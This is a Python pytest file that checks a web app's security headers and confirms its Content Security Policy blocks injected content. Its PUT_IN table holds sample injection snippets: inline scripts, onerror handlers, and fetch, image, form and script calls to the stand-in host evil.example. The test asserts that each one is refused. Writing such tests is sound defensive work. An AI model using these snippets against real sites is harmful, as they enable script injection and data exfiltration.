"""What the browser makes of our headers: every page works under them, and what is put in from outside does not run."""

from __future__ import annotations

import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

from pages.parts.safe_headers import HEADERS
from tests.browser.reader import CALM

LISTEN = """window.refused = [];
addEventListener('securitypolicyviolation', event => refused.push(`${event.effectiveDirective} ${event.blockedURI}`))"""
DONE_WITHOUT = {"script-src wasm-eval"}  # a library asks once whether there is WebAssembly, and has another way


def answer(address: str, **headers: str) -> dict[str, str]:
    try:
        with urllib.request.urlopen(urllib.request.Request(address, headers=headers), timeout=10) as got:
            return dict(got.headers)
    except urllib.error.HTTPError as refused:
        with refused:
            return dict(refused.headers)


@pytest.mark.parametrize(("path", "headers"), [
    ("/", {}), ("/team", {}), ("/_stcore/health", {}), ("/assets/logo.svg", {}), ("/assets/nothing", {}),
    ("/_stcore/upload_file/a/b", {}), ("/", {"Host": "evil.example"})])
def test_every_answer_of_the_server_has_them(server, path, headers):
    got = {name.lower(): value for name, value in answer(server + path, **headers).items()}
    assert {name: got.get(name.lower()) for name in HEADERS} == HEADERS


def rested(page: Any) -> Any:
    page.get_by_role("heading", level=1).first.wait_for()
    page.wait_for_function(CALM)
    return page


@pytest.fixture
def page(browser) -> Iterator[Any]:
    """A page that remembers what its policy refused."""
    context = browser.new_context(viewport={"width": 1440, "height": 900}, locale="en-GB")
    context.add_init_script(LISTEN)
    yield context.new_page()
    context.close()


def test_no_page_does_what_the_policy_forbids(page, server):
    page.goto(f"{server}/team?as=hr")
    rested(page)
    for link in page.locator("[data-testid=stSidebarNavLink]").all():
        address = link.get_attribute("href").rsplit("/", 1)[-1]
        link.click()
        page.wait_for_url(f"**/{address}*")
        assert set(rested(page).evaluate("refused")) <= DONE_WITHOUT, address
    for address in ("sources", "quality"):
        page.goto(f"{server}/{address}?as=administrator")
        assert set(rested(page).evaluate("refused")) <= DONE_WITHOUT, address


PUT_IN = {  # what somebody might get into a page, and what the policy says to it
    "a script": ("let e = document.createElement('script'); e.textContent = 'window.ran = 1'; document.body.append(e)",
                 "script-src-elem inline"),
    "a handler": ("document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"window.ran = 1\">')",
                  "script-src-attr inline"),
    "a text as code": ("let e = document.createElement('script'); e.src = 'data:text/javascript,window.ran=1';"
                       "document.body.append(e)", "script-src-elem data"),
    "another's script": ("let e = document.createElement('script'); e.src = 'https://evil.example/x.js';"
                         "document.body.append(e)", "script-src-elem https://evil.example/x.js"),
    "a frame": ("let e = document.createElement('iframe'); e.src = 'https://evil.example/'; document.body.append(e)",
                "frame-src https://evil.example"),
    "a message home": ("fetch('https://evil.example/?pay=1').catch(() => 0)",
                       "connect-src https://evil.example/?pay=1"),
    "a picture from elsewhere": ("new Image().src = 'https://evil.example/?pay=1'",
                                 "img-src https://evil.example/?pay=1"),
    "a form": ("let e = document.createElement('form'); e.action = 'https://evil.example/'; document.body.append(e);"
               "e.submit()", "form-action https://evil.example"),
    "a base": ("let e = document.createElement('base'); e.href = 'https://evil.example/'; document.head.append(e)",
               "base-uri https://evil.example"),
}


@pytest.mark.parametrize("what", PUT_IN)
def test_what_is_put_in_is_refused(page, server, what):
    act, refused = PUT_IN[what]
    page.goto(f"{server}/_stcore/health")  # every answer has the policy, and this one is there at once
    page.evaluate(f"() => {{ {act} }}")
    page.wait_for_function("refused.length")
    assert page.evaluate("refused[0]").startswith(refused)
    assert page.evaluate("window.ran") is None


def test_no_other_page_can_frame_ours(browser, server):
    context = browser.new_context()
    page = context.new_page()
    page.set_content(f'<iframe src="{server}/team"></iframe>')
    page.wait_for_function("document.querySelector('iframe').contentDocument === null")  # it is of another origin now
    assert page.frames[1].url.startswith("chrome-error:")
    context.close()
